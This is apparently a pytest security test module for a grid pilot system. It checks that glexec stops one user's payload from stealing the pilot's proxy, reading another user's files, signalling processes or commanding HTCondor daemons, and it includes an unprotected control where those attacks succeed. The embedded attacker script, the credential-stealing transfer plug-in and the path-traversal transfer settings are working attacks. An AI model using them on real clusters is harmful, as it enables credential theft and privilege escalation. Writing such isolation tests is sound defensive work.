"""Who may do what: a payload against its pilot and its neighbours, and everybody whom the grid must refuse.

     one worker of the filtered site
     ┌───────────────────────────────────────────────────────────────┐
     │ pilot (pilotNNN): proxy, startd, starter ── glexec ─▶ payload │  alice's payload goes for the pilot's proxy,
     │ pilot (pilotNNN): proxy, startd, starter ── glexec ─▶ payload │  for bob's files, for everybody's processes
     └───────────────────────────────────────────────────────────────┘

The negative control is a pilot without glexec and without the lines that close HTCondor's file transfer, started by
hand from a stage area of the test's own; it takes only this module's jobs. The same attacks then succeed.

Refusals: each with its message, and with evidence that nothing ran. Carol loses her certificate and gets a new one.
"""

import json
import re
from dataclasses import dataclass
from pathlib import PurePosixPath

import pytest
from pilotbed_suite.reach import host
from pilotbed_suite.support import (
    HOLD,
    HandPilot,
    arguments,
    frontend_stage,
    lenient_schedd,
    ok,
    processes,
    until,
    with_parameters,
    without_glexec,
    write,
)  # fmt: skip

# -- a payload against its surroundings ----------------------------------------------------------------------------

SECRET = "bob's own words"
VICTIM = f"""#!/bin/sh
echo "{SECRET}" > secret
chmod 666 secret "$X509_USER_PROXY"
exec {HOLD}
"""

ATTACKER = '''#!/usr/bin/python3
import json, os, pwd, subprocess
targets = json.loads("""@TARGETS@""")
def attempt(action, thing):
    try:
        return True, action(thing)
    except OSError as error:
        return False, error.strerror
def read(path):
    with open(path, "rb") as file:
        return file.read(4096).decode(errors="replace")
def command(daemon, level):
    # With all that HTCondor has for strangers, and with the user's own proxy.
    proxy = os.environ["X509_USER_PROXY"]
    settings = {
        "SEC_CLIENT_AUTHENTICATION": "REQUIRED", "SEC_CLIENT_AUTHENTICATION_METHODS": "FS, SSL, CLAIMTOBE, ANONYMOUS",
        "AUTH_SSL_CLIENT_CERTFILE": proxy, "AUTH_SSL_CLIENT_KEYFILE": proxy,
        "AUTH_SSL_CLIENT_CADIR": "/etc/grid-security/certificates",
    }
    env = {"PATH": "/usr/bin", "CONDOR_CONFIG": "ONLY_ENV"}
    env.update((f"_CONDOR_{key}", value) for key, value in settings.items())
    done = subprocess.run(["condor_ping", "-address", daemon, level], env=env, capture_output=True, text=True)
    return done.returncode == 0, done.stdout + done.stderr
starter = int(os.environ["CONDOR_STARTER_PID"])
os.symlink(targets["proxy"], "loot.pem")
print(json.dumps({
    "account": pwd.getpwuid(os.getuid()).pw_name,
    "files": {path: attempt(read, path) for path in targets["files"]},
    "starter's environment": attempt(read, f"/proc/{starter}/environ"),
    "starter": attempt(lambda pid: os.kill(pid, 0), starter),
    "processes": {pid: attempt(lambda pid: os.kill(pid, 0), pid) for pid in targets["processes"]},
    "commands": {f"{daemon} {level}": command(address, level)
                 for daemon, address in targets["daemons"].items() for level in ("ADMINISTRATOR", "WRITE", "READ")},
}))
'''

#: A transfer plug-in of the user's: whatever it is asked to fetch, it hands out the pilot's proxy.
PLUGIN = '''#!/usr/bin/python3
import sys
if "-classad" in sys.argv:
    print('PluginVersion = "1"\\nPluginType = "FileTransfer"\\nSupportedMethods = "steal"\\nMultipleFileSupport = true')
    sys.exit()
wanted = open(sys.argv[sys.argv.index("-infile") + 1]).read()
local = wanted.split("LocalFileName", 1)[1].split('"')[1]
open(local, "w").write(open("@PROXY@").read())
open(sys.argv[sys.argv.index("-outfile") + 1], "w").write(
    '[ TransferSuccess = true; TransferFileName = "loot.pem"; TransferUrl = "steal://x/loot.pem" ]')
'''

#: What HTCondor is asked to do for the job with the pilot's rights (docs/glexec.md). @LOOT@ arrives in the user's home.
TRANSFERS = {
    "output by absolute path": "transfer_output_files = @PROXY@\\n@LOOT@",
    "output by the way up": "transfer_output_files = ../../../cred/pilot.pem\\n@LOOT@",
    "input by file URL": "transfer_input_files = file://@PROXY@\\ntransfer_output_files = pilot.pem\\n@LOOT@",
    "plug-in of the user's": "transfer_plugins = steal=thief\\ntransfer_input_files = steal://x/loot.pem\\n"
    "transfer_output_files = loot.pem\\n@LOOT@",
}
LOOT = 'transfer_output_remaps = "pilot.pem=@NAME@.loot; loot.pem=@NAME@.loot"'


@dataclass
class Attack:
    """Alice's attempt: what her payload reports, what arrived in her home, and whom it was aimed at."""

    report: dict
    loot: str
    proxy: str
    victim: int
    secret: str
    pilot: str


def attack(jobs, site, alice, bob, extra):
    """Have alice's payload attack bob's, which waits on the same worker, and the pilot that runs it."""
    prey = jobs.submit(bob, site, VICTIM, extra=extra)
    worker, process = prey.holds(site)
    sandbox = ok(worker, "readlink /proc/%s/cwd", str(process.pid)).strip()
    proxy = f"{PurePosixPath(sandbox).parents[2]}/cred/pilot.pem"
    files = [proxy, *ok(worker, "find %s -type f", sandbox).split()]
    others = [other.pid for other in processes(worker) if "condor_" in other.args or other.pid == process.pid]
    targets = {"files": files, "processes": others, "proxy": proxy, "daemons": daemons(worker, proxy)}
    script = ATTACKER.replace("@TARGETS@", json.dumps(targets))
    name = worker.run("uname -n").stdout.strip()
    job = jobs.submit(alice, site, script, extra=f'{extra} && TARGET.GLIDEIN_Worker == "{name}"\n{LOOT}')
    job.done(60)
    assert processes_alive(worker, process.pid), "bob's payload has survived"
    pilot = ok(worker, "stat -c %%U %s", proxy).strip()
    prey.remove()
    until("bob's payload is gone", lambda: not processes_alive(worker, process.pid))
    return Attack(json.loads(job.read("out")), job.read("loot"), proxy, process.pid, f"{sandbox}/secret", pilot)


def daemons(worker, proxy):
    """Where a pilot's daemons listen on their node."""
    logs = PurePosixPath(proxy).parents[1] / "log"
    found = {}
    for daemon in ("master", "startd"):
        address = ok(worker, "head -n 1 %s", f"{logs}/.{daemon}_address")
        found[daemon] = "<{}?noUDP&sock={}>".format(*re.match(r"<([^?]*)\?.*sock=([^&>]*)", address).groups())
    return found


def processes_alive(worker, pid):
    return worker.run("test -d /proc/%s", str(pid)).rc == 0


def transfers(jobs, site, alice, extra, proxy):
    """Submit every attack of TRANSFERS; return {attack: (its end, what arrived in her home)}."""
    home = jobs.node.user(alice.account).home
    write(jobs.node, f"{home}/thief", PLUGIN.replace("@PROXY@", proxy), owner=alice.account, mode="0755")
    try:
        with lenient_schedd(jobs.node):
            made = {
                what: jobs.submit(
                    alice, site, "#!/bin/sh\nls -l\n",
                    extra=f"{extra}\n{lines}".replace("\\n", "\n").replace("@LOOT@", LOOT).replace("@PROXY@", proxy),
                )
                for what, lines in TRANSFERS.items()
            }  # fmt: skip

        def end(job):
            ad = job.ad()
            state = job.status()
            # No pilot takes it: two cycles of negotiation have said so.
            refused = ad.get("LastRejMatchTime", 0) > ad["QDate"] + 3 and state == "idle"
            return "no pilot takes it" if refused else state if state in ("done", "held", "removed") else ""

        try:
            ends = {what: until(f"end of {what}", lambda job=job: end(job)) for what, job in made.items()}
        except pytest.fail.Exception as error:
            logs = f"{PurePosixPath(proxy).parents[1]}/log/StarterLog.*"
            error.add_note(host(site.workers[0]).run(f"tail -n 80 {logs}").stdout)
            raise
        found = {what: (ends[what], job.read("loot")) for what, job in made.items()}
        for job in made.values():
            job.remove()
        return found
    finally:
        jobs.node.run("rm -f %s", f"{home}/thief")


GLEXEC = "requirements = TARGET.GLEXEC_JOB =?= true"


@pytest.fixture(scope="module")
def attacked(jobs, filtered_site, alice, bob, pilots):
    pilots(filtered_site, 2)
    return attack(jobs, filtered_site, alice, bob, GLEXEC)


@pytest.fixture(scope="module")
def transferred(jobs, filtered_site, alice, attacked):
    return transfers(jobs, filtered_site, alice, GLEXEC, attacked.proxy)


@pytest.mark.check("D3.1")
def test_payload_has_not_the_pilots_account(attacked):
    assert attacked.report["account"] != attacked.pilot


@pytest.mark.check("D3.2")
@pytest.mark.check("P5")
def test_payload_reads_neither_the_pilots_proxy_nor_anothers_files(attacked):
    assert len(attacked.report["files"]) > 3
    assert {path for path, (could, _) in attacked.report["files"].items() if could} == set()
    assert attacked.report["starter's environment"][0] is False


@pytest.mark.check("D3.2")
@pytest.mark.check("P5")
def test_payload_signals_neither_starter_nor_another_payload(attacked):
    assert attacked.report["starter"] == [False, "Operation not permitted"]
    assert str(attacked.victim) in attacked.report["processes"]
    assert {pid for pid, (could, _) in attacked.report["processes"].items() if could} == set()


@pytest.mark.check("D3.2")
def test_payload_commands_none_of_the_pilots_daemons(attacked):
    commands = attacked.report["commands"]
    assert len(commands) == 6
    assert [name for name, (could, _) in commands.items() if could] == [], commands
    assert all("failed" in said.lower() for _, said in commands.values()), "they were reached, and refused"


@pytest.mark.check("D3.2")
def test_link_in_the_sandbox_does_not_carry_the_pilots_proxy_out(attacked):
    assert "PRIVATE KEY" not in attacked.loot


@pytest.mark.check("D3.2")
@pytest.mark.parametrize("what", TRANSFERS)
def test_file_transfer_does_not_hand_out_the_pilots_proxy(transferred, what):
    end, loot = transferred[what]
    assert "PRIVATE KEY" not in loot
    assert end in ("no pilot takes it", "held"), end


# -- the same without protection -----------------------------------------------------------------------------------

#: The stage's last word on HTCondor's configuration in the control.
OPEN = """ENABLE_URL_TRANSFERS = True
FILETRANSFER_PLUGINS = /usr/libexec/condor/curl_plugin
STARTER_DISABLE_USER_SUPPLIED_TRANSFER_PLUGINS = False
"""
OPEN_FILE = """
[[files]]
name = "99-open.conf"
source = "/run/pilotbed-test-open.conf"
type = "config:c"
list = "preentry_file_list"
"""
UNPROTECTED = '+PilotbedTest = "unprotected"\nrequirements = TARGET.GLEXEC_JOB =?= false'


@pytest.fixture(scope="module")
def open_stage(grid):
    """A frontend's stage area that wants no glexec; returns what a pilot must be told of it."""
    frontend = grid.node("frontend")
    write(frontend, "/run/pilotbed-test-open.conf", OPEN)
    with frontend_stage(lambda config: without_glexec(config) + OPEN_FILE) as options:
        yield options
    frontend.run("rm -f /run/pilotbed-test-open.conf")


@pytest.fixture(scope="module")
def unprotected(filtered_site, open_stage, central, pilots):
    """A pilot with two cores that runs payloads under its own account."""
    pilots(filtered_site)
    options = with_parameters(
        {**arguments(filtered_site), **open_stage},
        GLIDEIN_CPUS="2", GLIDEIN_Start='TARGET.PilotbedTest =?= "unprotected"',
    )  # fmt: skip
    with HandPilot(host(filtered_site.workers[0]), options) as pilot:
        until(
            "the unprotected pilot is in the pool",
            lambda: any(slot["GLEXEC_JOB"] is False for slot in filtered_site.slots(central)) or pilot.check(),
        )
        yield pilot


@pytest.fixture(scope="module")
def attacked_unprotected(jobs, filtered_site, alice, bob, unprotected):
    return attack(jobs, filtered_site, alice, bob, UNPROTECTED)


@pytest.fixture(scope="module")
def transferred_unprotected(jobs, filtered_site, alice, unprotected, attacked_unprotected):
    return transfers(jobs, filtered_site, alice, UNPROTECTED, attacked_unprotected.proxy)


@pytest.mark.check("D3.5")
@pytest.mark.check("D3.2", control=True)
def test_control_without_glexec_the_payload_is_the_pilot(attacked_unprotected):
    report, found = attacked_unprotected.report, attacked_unprotected
    assert report["account"] == found.pilot
    assert "PRIVATE KEY" in report["files"][found.proxy][1]
    assert report["files"][found.secret] == [True, SECRET + "\n"]
    assert report["starter"][0] and report["processes"][str(found.victim)][0]
    assert all(could for could, _ in report["commands"].values()), report["commands"]
    assert "PRIVATE KEY" in found.loot, "a link to the pilot's proxy is followed"


@pytest.mark.check("D3.5")
@pytest.mark.check("D3.2", control=True)
@pytest.mark.parametrize("what", TRANSFERS)
def test_control_open_file_transfer_hands_out_the_pilots_proxy(transferred_unprotected, what):
    end, loot = transferred_unprotected[what]
    assert "PRIVATE KEY" in loot, end
